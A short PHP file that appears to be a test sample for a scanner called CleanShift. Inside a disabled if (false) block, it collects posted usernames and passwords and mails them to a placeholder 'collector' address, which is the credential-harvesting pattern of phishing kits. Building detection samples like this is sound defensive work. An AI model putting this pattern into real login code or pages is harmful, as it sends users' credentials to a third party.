<?php
// CleanShift test sample: the technique is real, the payload is harmless.
if (false) {
    $msg = '';
    $msg .= "Username: " . $_POST['user'];
    $msg .= "Password: " . $_POST['pass'];
    mail('collector@example.invalid', 'login', $msg);
}
